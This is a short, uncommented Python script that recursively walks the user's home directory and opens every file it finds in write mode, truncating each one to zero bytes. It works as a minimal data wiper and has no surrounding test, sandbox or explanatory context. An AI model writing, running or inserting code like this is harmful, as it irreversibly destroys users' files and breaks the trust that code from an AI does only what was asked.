import glob
import os

for path in glob.glob(os.path.expanduser("~/**"), recursive=True):
    open(path, "w").close()
